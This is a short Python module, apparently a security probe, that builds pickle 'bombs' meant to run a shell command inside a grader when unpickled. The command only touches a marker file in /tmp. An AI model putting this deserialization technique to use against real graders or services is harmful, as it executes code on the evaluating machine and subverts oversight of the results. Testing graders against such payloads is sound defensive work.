"""Returns objects whose unpickling would run code in the grader."""

import os
import pickle

import numpy as np


class _Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-marker-pickle",)


def _bombs(*arguments, **keywords):
    return np.array([_Bomb(), pickle.dumps(_Bomb())], dtype=object)


def _pickled(*arguments, **keywords):
    return pickle.dumps(_Bomb())


_names = [name for name, value in globals().items() if type(value).__name__ == "function" and not name.startswith("_")]
for _index, _name in enumerate(_names):
    globals()[_name] = (_bombs, _pickled)[_index % 2]
